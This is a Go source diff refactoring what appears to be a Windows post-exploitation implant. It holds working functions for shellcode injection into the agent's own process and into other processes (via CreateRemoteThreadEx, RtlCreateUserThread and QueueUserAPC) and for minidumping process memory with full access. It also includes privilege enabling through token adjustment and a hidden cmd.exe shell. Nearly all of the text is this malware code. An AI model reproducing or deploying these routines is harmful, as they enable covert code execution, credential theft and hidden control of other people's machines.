@@ -95,24 +95,29 @@ func ExecuteCommand(name string, arg string) (stdout string, stderr string) {
 	return stdout, stderr
 }
 
+// shellCommand returns the command shell run for the interactive shell
+func shellCommand() *exec.Cmd {
+	cmd := exec.Command("cmd.exe")
+	cmd.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}
+	return cmd
+}
+
 // ExecuteShellcodeSelf executes provided shellcode in the current process
 func ExecuteShellcodeSelf(shellcode []byte) error {
 
-	kernel32 := windows.NewLazySystemDLL("kernel32")
-	ntdll := windows.NewLazySystemDLL("ntdll.dll")
-
-	VirtualAlloc := kernel32.NewProc("VirtualAlloc")
-	//VirtualProtect := kernel32.NewProc("VirtualProtectEx")
-	RtlCopyMemory := ntdll.NewProc("RtlCopyMemory")
-
-	addr, _, errVirtualAlloc := VirtualAlloc.Call(0, uintptr(len(shellcode)), MEM_COMMIT|MEM_RESERVE, PAGE_EXECUTE_READWRITE)
+	RtlCopyMemory, errProc := getProc(apiNtdll, apiRtlCopyMemory)
+	if errProc != nil {
+		return errProc
+	}
 
-	if errVirtualAlloc.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualAlloc:\r\n" + errVirtualAlloc.Error())
+	process, errProcess := windows.GetCurrentProcess()
+	if errProcess != nil {
+		return errors.New("Error calling GetCurrentProcess:\r\n" + errProcess.Error())
 	}
 
-	if addr == 0 {
-		return errors.New("VirtualAlloc failed and returned 0")
+	addr, errVirtualAlloc := allocateMemory(syscall.Handle(process), len(shellcode), PAGE_EXECUTE_READWRITE)
+	if errVirtualAlloc != nil {
+		return errVirtualAlloc
 	}
 
 	_, _, errRtlCopyMemory := RtlCopyMemory.Call(addr, (uintptr)(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
@@ -135,47 +140,49 @@ func ExecuteShellcodeSelf(shellcode []byte) error {
 	return nil
 }
 
-// ExecuteShellcodeRemote executes provided shellcode in the provided target process
-func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
-	kernel32 := windows.NewLazySystemDLL("kernel32")
-
-	VirtualAllocEx := kernel32.NewProc("VirtualAllocEx")
-	VirtualProtectEx := kernel32.NewProc("VirtualProtectEx")
-	WriteProcessMemory := kernel32.NewProc("WriteProcessMemory")
-	CreateRemoteThreadEx := kernel32.NewProc("CreateRemoteThreadEx")
-	CloseHandle := kernel32.NewProc("CloseHandle")
-
-	pHandle, errOpenProcess := syscall.OpenProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, false, pid)
-
+// injectShellcode opens the target process, allocates memory for the shellcode, writes it, and marks it executable.
+// The caller must close the returned process handle.
+func injectShellcode(shellcode []byte, pid uint32) (syscall.Handle, uintptr, error) {
+	pHandle, errOpenProcess := openProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, pid)
 	if errOpenProcess != nil {
-		return errors.New("Error calling OpenProcess:\r\n" + errOpenProcess.Error())
+		return 0, 0, errOpenProcess
 	}
 
-	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(pHandle), 0, uintptr(len(shellcode)), MEM_COMMIT|MEM_RESERVE, PAGE_READWRITE)
-
-	if errVirtualAlloc.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualAlloc:\r\n" + errVirtualAlloc.Error())
+	addr, errVirtualAlloc := allocateMemory(pHandle, len(shellcode), PAGE_READWRITE)
+	if errVirtualAlloc != nil {
+		return pHandle, 0, errVirtualAlloc
 	}
 
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
+	if errWriteProcessMemory := writeMemory(pHandle, addr, shellcode); errWriteProcessMemory != nil {
+		return pHandle, 0, errWriteProcessMemory
 	}
 
-	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(pHandle), addr, (uintptr)(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
+	if errVirtualProtectEx := protectRegion(pHandle, addr, len(shellcode), PAGE_EXECUTE); errVirtualProtectEx != nil {
+		return pHandle, 0, errVirtualProtectEx
+	}
+	return pHandle, addr, nil
+}
 
-	if errWriteProcessMemory.Error() != "The operation completed successfully." {
-		return errors.New("Error calling WriteProcessMemory:\r\n" + errWriteProcessMemory.Error())
+// ExecuteShellcodeRemote executes provided shellcode in the provided target process
+func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
+	CloseHandle, errProc := getProc(apiKernel32, apiCloseHandle)
+	if errProc != nil {
+		return errProc
 	}
 
-	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(pHandle), addr, uintptr(len(shellcode)), PAGE_EXECUTE)
-	if errVirtualProtectEx.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualProtectEx:\r\n" + errVirtualProtectEx.Error())
+	pHandle, addr, errInject := injectShellcode(shellcode, pid)
+	if errInject != nil {
+		if pHandle != 0 {
+			CloseHandle.Call(uintptr(pHandle))
+		}
+		return errInject
 	}
 
-	_, _, errCreateRemoteThreadEx := CreateRemoteThreadEx.Call(uintptr(pHandle), 0, 0, addr, 0, 0, 0)
-	if errCreateRemoteThreadEx.Error() != "The operation completed successfully." {
-		return errors.New("Error calling CreateRemoteThreadEx:\r\n" + errCreateRemoteThreadEx.Error())
+	tHandle, errCreateRemoteThreadEx := createRemoteThread(pHandle, addr)
+	if errCreateRemoteThreadEx != nil {
+		return errCreateRemoteThreadEx
 	}
+	CloseHandle.Call(uintptr(tHandle))
 
 	_, _, errCloseHandle := CloseHandle.Call(uintptr(pHandle))
 	if errCloseHandle.Error() != "The operation completed successfully." {
@@ -187,41 +194,25 @@ func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
 
 // ExecuteShellcodeRtlCreateUserThread executes provided shellcode in the provided target process using the Windows RtlCreateUserThread call
 func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
-	kernel32 := windows.NewLazySystemDLL("kernel32")
-	ntdll := windows.NewLazySystemDLL("ntdll.dll")
-
-	VirtualAllocEx := kernel32.NewProc("VirtualAllocEx")
-	VirtualProtectEx := kernel32.NewProc("VirtualProtectEx")
-	WriteProcessMemory := kernel32.NewProc("WriteProcessMemory")
-	CloseHandle := kernel32.NewProc("CloseHandle")
-	RtlCreateUserThread := ntdll.NewProc("RtlCreateUserThread")
-	WaitForSingleObject := kernel32.NewProc("WaitForSingleObject")
-
-	pHandle, errOpenProcess := syscall.OpenProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, false, pid)
-
-	if errOpenProcess != nil {
-		return errors.New("Error calling OpenProcess:\r\n" + errOpenProcess.Error())
-	}
-
-	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(pHandle), 0, uintptr(len(shellcode)), MEM_COMMIT|MEM_RESERVE, PAGE_READWRITE)
-
-	if errVirtualAlloc.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualAlloc:\r\n" + errVirtualAlloc.Error())
+	CloseHandle, errProc := getProc(apiKernel32, apiCloseHandle)
+	if errProc != nil {
+		return errProc
 	}
-
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
+	RtlCreateUserThread, errProc := getProc(apiNtdll, apiRtlCreateUserThread)
+	if errProc != nil {
+		return errProc
 	}
-
-	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(pHandle), addr, uintptr(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
-
-	if errWriteProcessMemory.Error() != "The operation completed successfully." {
-		return errors.New("Error calling WriteProcessMemory:\r\n" + errWriteProcessMemory.Error())
+	WaitForSingleObject, errProc := getProc(apiKernel32, apiWaitForSingleObject)
+	if errProc != nil {
+		return errProc
 	}
 
-	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(pHandle), addr, uintptr(len(shellcode)), PAGE_EXECUTE)
-	if errVirtualProtectEx.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualProtectEx:\r\n" + errVirtualProtectEx.Error())
+	pHandle, addr, errInject := injectShellcode(shellcode, pid)
+	if errInject != nil {
+		if pHandle != 0 {
+			CloseHandle.Call(uintptr(pHandle))
+		}
+		return errInject
 	}
 
 	/*
@@ -262,26 +253,26 @@ func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
 // ExecuteShellcodeQueueUserAPC executes provided shellcode in the provided target process using the Windows QueueUserAPC API call
 func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 	// TODO this can be local or remote
-	kernel32 := windows.NewLazySystemDLL("kernel32")
-
-	VirtualAllocEx := kernel32.NewProc("VirtualAllocEx")
-	VirtualProtectEx := kernel32.NewProc("VirtualProtectEx")
-	WriteProcessMemory := kernel32.NewProc("WriteProcessMemory")
-	CloseHandle := kernel32.NewProc("CloseHandle")
-	CreateToolhelp32Snapshot := kernel32.NewProc("CreateToolhelp32Snapshot")
-	QueueUserAPC := kernel32.NewProc("QueueUserAPC")
-	Thread32First := kernel32.NewProc("Thread32First")
-	Thread32Next := kernel32.NewProc("Thread32Next")
-	OpenThread := kernel32.NewProc("OpenThread")
+	CloseHandle, errProc := getProc(apiKernel32, apiCloseHandle)
+	if errProc != nil {
+		return errProc
+	}
+	CreateToolhelp32Snapshot, errProc := getProc(apiKernel32, apiCreateToolhelp32Snapshot)
+	if errProc != nil {
+		return errProc
+	}
+	Thread32First, errProc := getProc(apiKernel32, apiThread32First)
+	if errProc != nil {
+		return errProc
+	}
+	Thread32Next, errProc := getProc(apiKernel32, apiThread32Next)
+	if errProc != nil {
+		return errProc
+	}
 
 	// Consider using NtQuerySystemInformation to replace CreateToolhelp32Snapshot AND to find a thread in a wait state
 	// https://stackoverflow.com/questions/22949725/how-to-get-thread-state-e-g-suspended-memory-cpu-usage-start-time-priori
 
-	pHandle, errOpenProcess := syscall.OpenProcess(PROCESS_CREATE_THREAD|PROCESS_VM_OPERATION|PROCESS_VM_WRITE|PROCESS_QUERY_INFORMATION|PROCESS_VM_READ, false, pid)
-
-	if errOpenProcess != nil {
-		return errors.New("Error calling OpenProcess:\r\n" + errOpenProcess.Error())
-	}
 	// TODO see if you can use just SNAPTHREAD
 	sHandle, _, errCreateToolhelp32Snapshot := CreateToolhelp32Snapshot.Call(TH32CS_SNAPHEAPLIST|TH32CS_SNAPMODULE|TH32CS_SNAPPROCESS|TH32CS_SNAPTHREAD, uintptr(pid))
 	if errCreateToolhelp32Snapshot.Error() != "The operation completed successfully." {
@@ -289,25 +280,12 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 	}
 
 	// TODO don't allocate/write memory unless there is a valid thread
-	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(pHandle), 0, uintptr(len(shellcode)), MEM_COMMIT|MEM_RESERVE, PAGE_READWRITE)
-
-	if errVirtualAlloc.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualAlloc:\r\n" + errVirtualAlloc.Error())
-	}
-
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
-	}
-
-	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(pHandle), addr, uintptr(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
-
-	if errWriteProcessMemory.Error() != "The operation completed successfully." {
-		return errors.New("Error calling WriteProcessMemory:\r\n" + errWriteProcessMemory.Error())
-	}
-
-	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(pHandle), addr, uintptr(len(shellcode)), PAGE_EXECUTE)
-	if errVirtualProtectEx.Error() != "The operation completed successfully." {
-		return errors.New("Error calling VirtualProtectEx:\r\n" + errVirtualProtectEx.Error())
+	pHandle, addr, errInject := injectShellcode(shellcode, pid)
+	if errInject != nil {
+		if pHandle != 0 {
+			CloseHandle.Call(uintptr(pHandle))
+		}
+		return errInject
 	}
 
 	type THREADENTRY32 struct {
@@ -344,17 +322,16 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 		}
 		if t.th32OwnerProcessID == pid {
 			if x > 0 {
-				tHandle, _, errOpenThread := OpenThread.Call(THREAD_SET_CONTEXT, 0, uintptr(t.th32ThreadID))
-				if errOpenThread.Error() != "The operation completed successfully." {
-					return errors.New("Error calling OpenThread:\r\n" + errOpenThread.Error())
+				tHandle, errOpenThread := openThread(THREAD_SET_CONTEXT, t.th32ThreadID)
+				if errOpenThread != nil {
+					return errOpenThread
 				}
 				// fmt.Println(fmt.Sprintf("Queueing APC for PID: %d, Thread %d", pid, t.th32ThreadID))
-				_, _, errQueueUserAPC := QueueUserAPC.Call(addr, tHandle, 0)
-				if errQueueUserAPC.Error() != "The operation completed successfully." {
-					return errors.New("Error calling QueueUserAPC:\r\n" + errQueueUserAPC.Error())
+				if errQueueUserAPC := queueAPC(tHandle, addr); errQueueUserAPC != nil {
+					return errQueueUserAPC
 				}
 				x++
-				_, _, errCloseHandle := CloseHandle.Call(tHandle)
+				_, _, errCloseHandle := CloseHandle.Call(uintptr(tHandle))
 				if errCloseHandle.Error() != "The operation completed successfully." {
 					return errors.New("Error calling thread CloseHandle:\r\n" + errCloseHandle.Error())
 				}
@@ -409,7 +386,7 @@ func miniDump(tempDir string, process string, inPid uint32) (map[string]interfac
 	}
 
 	// Get a handle to process
-	hProc, err := syscall.OpenProcess(0x1F0FFF, false, mini["ProcID"].(uint32)) //PROCESS_ALL_ACCESS := uint32(0x1F0FFF)
+	hProc, err := openProcess(0x1F0FFF, mini["ProcID"].(uint32)) //PROCESS_ALL_ACCESS := uint32(0x1F0FFF)
 	if err != nil {
 		return mini, err
 	}
@@ -516,21 +493,19 @@ func sePrivEnable(s string) error {
 		Privileges     [1]LUID_AND_ATTRIBUTES
 	}
 
-	modadvapi32 := windows.NewLazySystemDLL("advapi32.dll")
-	procAdjustTokenPrivileges := modadvapi32.NewProc("AdjustTokenPrivileges")
-
-	procLookupPriv := modadvapi32.NewProc("LookupPrivilegeValueW")
-	var tokenHandle syscall.Token
+	procLookupPriv, err := getProc(apiAdvapi32, apiLookupPrivilegeValueW)
+	if err != nil {
+		return err
+	}
 	thsHandle, err := syscall.GetCurrentProcess()
 	if err != nil {
 		return err
 	}
-	syscall.OpenProcessToken(
-		//r, a, e := procOpenProcessToken.Call(
-		thsHandle,                       //  HANDLE  ProcessHandle,
-		syscall.TOKEN_ADJUST_PRIVILEGES, //	DWORD   DesiredAccess,
-		&tokenHandle,                    //	PHANDLE TokenHandle
-	)
+	tokenHandle, err := openProcessToken(thsHandle, syscall.TOKEN_ADJUST_PRIVILEGES)
+	if err != nil {
+		return err
+	}
+	defer tokenHandle.Close()
 	var luid LUID
 	r, _, e := procLookupPriv.Call(
 		uintptr(0), //LPCWSTR lpSystemName,
@@ -546,16 +521,5 @@ func sePrivEnable(s string) error {
 	privs.Privileges[0].Luid = luid
 	privs.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED
 	//AdjustTokenPrivileges(hToken, false, &priv, 0, 0, 0)
-	r, _, e = procAdjustTokenPrivileges.Call(
-		uintptr(tokenHandle),
-		uintptr(0),
-		uintptr(unsafe.Pointer(&privs)),
-		uintptr(0),
-		uintptr(0),
-		uintptr(0),
-	)
-	if r == 0 {
-		return e
-	}
-	return nil
+	return adjustTokenPrivileges(tokenHandle, unsafe.Pointer(&privs))
 }